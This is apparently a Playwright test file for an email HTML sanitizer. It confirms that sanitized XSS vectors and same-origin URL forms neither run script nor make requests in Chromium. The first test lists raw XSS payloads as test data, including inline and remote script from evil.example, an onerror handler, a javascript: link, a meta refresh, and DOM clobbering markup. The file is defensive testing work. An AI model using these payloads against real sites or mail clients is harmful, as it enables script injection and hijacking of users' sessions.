import type { Browser } from 'playwright-core';
import { distinctHtml, MailRenderer, mailAndReadBack, renderAllWays, type SanitizedVector } from '../support/browser-proof';
import { launchChromium } from '../support/chromium';
import { startTestService, type TestService } from '../support/local-service';
import { formsIn, leakPath, sameOriginUrlForms, sameOriginUrlVectors, urlPlaces } from '../support/url-form-vectors';
import { xssVectors } from '../support/xss-vectors';

let service: TestService;
let browser: Browser;

beforeAll(async () => {
  [service, browser] = await Promise.all([startTestService(), launchChromium()]);
});
afterAll(async () => {
  await Promise.all([service?.close(), browser?.close()]);
});

describe('the browser harness', () => {
  it('sees harm when it is there: unsanitized vectors run script, break the CSP, reach other hosts and navigate', async () => {
    const renderer = await MailRenderer.open(browser);
    const raw: SanitizedVector[] = [
      { name: 'script', html: '<script>alert("script")</script>' },
      { name: 'handler', html: '<img src="https://x.example/a.png" onerror="confirm(\'handler\')">' },
      { name: 'clicked javascript: link', html: '<a href="javascript:console.log(\'link\')">x</a>' },
      { name: 'remote script', html: '<script src="https://evil.example/x.js"></script>' },
      { name: 'tab that can reach back', html: '<a href="https://x.example/opened" target="_blank" rel="opener">x</a>' },
      { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
      { name: 'clobbering', html: '<img name="getElementById"><form id="location"></form>' },
      // The same HTML as another vector: rendered once, and its incidents name both.
      { name: 'script again', html: '<script>alert("script")</script>' },
    ];
    await renderAllWays(renderer, raw);
    await renderer.close();
    expect(renderer.waysMissing(raw)).toEqual([]);
    expect(renderer.incidents.filter((incident) => incident.during === 'page: script = script again').map((incident) => incident.kind)).toContain('script execution: alert');
    const kinds = new Set(renderer.incidents.map((incident) => incident.kind));
    expect([...kinds]).toEqual(
      expect.arrayContaining([
        'script execution: alert',
        'script execution: confirm',
        'script execution: console.log',
        'CSP violation',
        'request to another host (script)',
        'request to another host (document, main frame)',
        'opened tab can reach its opener',
        'DOM clobbering',
      ]),
    );
    expect(renderer.incidents.some((incident) => incident.detail.includes('https://evil.example/'))).toBe(true);
  });
});

describe('ids and in-page links in Chromium', () => {
  it('keeps in-page links working under the message prefix, without clobbering the page', async () => {
    const html = [
      '<p><a href="#section-2">Jump to section 2</a> <a href="#top">Top</a> <a href="#old">Old anchor</a></p>',
      '<h1 id="top">Newsletter</h1><div style="height:3000px">long</div>',
      '<h2 id="section-2">Section 2</h2><a name="old"></a><p>end</p>',
      '<img id="getElementById" name="location" alt="clobber attempt"><form id="forms"></form>',
    ].join('');
    const [vector] = await mailAndReadBack(service, [['in-page links', html]]);
    const prefix = /id="(m-[0-9a-f]{10}-)top"/.exec(vector!.html)?.[1];
    expect(prefix).toBeDefined();
    expect(vector!.html).toContain(`href="#${prefix}section-2"`);
    const renderer = await MailRenderer.open(browser);
    await renderAllWays(renderer, [vector!]);
    await renderer.close();
    expect(renderer.incidents).toEqual([]);
    // Three links, each found in each of the three renders.
    expect(renderer.counts.inPageLinks).toBe(9);
    expect(renderer.counts.inPageTargets).toBe(9);
  }, 60_000);
});

describe('sanitized HTML of the project vectors in Chromium', () => {
  it(`mails the ${xssVectors.length} vectors, reads them back through /v1, renders them three ways, clicks everything: nothing runs, reports or leaves`, async () => {
    expect(xssVectors.length).toBeGreaterThanOrEqual(150);
    const started = Date.now();
    const sanitized = await mailAndReadBack(service, xssVectors);
    const mailed = Date.now();
    const renderer = await MailRenderer.open(browser);
    await renderAllWays(renderer, sanitized);
    await renderer.close();
    process.stdout.write(
      `browser proof, project vectors: ${sanitized.length} vectors (${distinctHtml(sanitized).length} distinct sanitized HTML), ${renderer.counts.renders} renders, ${renderer.counts.clicks} clicks, ` +
        `${renderer.counts.events} dispatched events, ${renderer.counts.inPageLinks} in-page links (${renderer.counts.inPageTargets} reaching their target), ` +
        `${renderer.contentRequests.length} content requests (images, links), ` +
        `${renderer.incidents.length} incidents; mail ${mailed - started} ms, browser ${Date.now() - mailed} ms\n`,
    );
    expect(renderer.incidents.map(({ kind, detail, during }) => `${kind}: ${detail} [${during.slice(0, 100)}]`)).toEqual([]);
    expect(renderer.waysMissing(sanitized)).toEqual([]);
    expect(renderer.counts.renders).toBe(3 * distinctHtml(sanitized).length);
  }, 240_000);
});

describe('URLs that resolve against the page showing the mail, in Chromium on real http and https origins', () => {
  const ownOrigin = (renderer: MailRenderer) => renderer.incidents.filter((incident) => incident.kind.startsWith("request to the page's own origin"));

  it('the harness sees the page call its own site when the forms are not sanitized: images, links and CSS, on http and on https', async () => {
    const places = ['img src', 'a href', 'style background-image url()'];
    // A tab inside an unquoted CSS url() ends the URL, so tabs are looked for in images and links only.
    const schemeForms = [
      [false, ['http:/path', 'HtTp:/path', 'path-relative'], 'entity tab inside the scheme'],
      [true, ['https:/path', 'HTTPS:/path', '&colon; for the colon'], 'tab inside the scheme'],
    ] as const;
    for (const [secure, forms, tabForm] of schemeForms) {
      const renderer = await MailRenderer.open(browser, { secure });
      for (const place of places) await renderer.renderAsPage({ name: place, html: formsIn(place, [...forms, tabForm]) });
      await renderer.close();
      const details = ownOrigin(renderer).map((incident) => incident.detail);
      const seen = (place: string, form: string) => ({ place, form, seen: details.some((detail) => detail.includes(`${renderer.origin}${leakPath(place, form)}`)) });
      for (const place of places) for (const form of forms) expect(seen(place, form)).toEqual({ place, form, seen: true });
      for (const place of places.slice(0, 2)) expect(seen(place, tabForm)).toEqual({ place, form: tabForm, seen: true });
    }
  }, 60_000);

  it(`mails ${sameOriginUrlForms.length} forms in each of ${urlPlaces.length} places, reads them back through /v1 and renders them three ways on each origin: no request or navigation reaches the page's own site`, async () => {
    const sanitized = await mailAndReadBack(service, sameOriginUrlVectors);
    const figures: string[] = [];
    for (const secure of [false, true]) {
      const renderer = await MailRenderer.open(browser, { secure });
      await renderAllWays(renderer, sanitized);
      await renderer.close();
      figures.push(`${secure ? 'https' : 'http'}: ${renderer.counts.renders} renders, ${renderer.counts.clicks} clicks, ${renderer.contentRequests.length} content requests, ${renderer.incidents.length} incidents`);
      expect(renderer.incidents.map(({ kind, detail, during }) => `${kind}: ${detail} [${during.slice(0, 100)}]`)).toEqual([]);
      expect(renderer.waysMissing(sanitized)).toEqual([]);
      expect(renderer.counts.renders).toBe(3 * distinctHtml(sanitized).length);
    }
    process.stdout.write(
      `browser proof, same-origin URL forms: ${sameOriginUrlVectors.length} vectors (${sameOriginUrlForms.length} forms x ${urlPlaces.length} places; ${distinctHtml(sanitized).length} distinct sanitized HTML); ${figures.join('; ')}\n`,
    );
  }, 120_000);
});
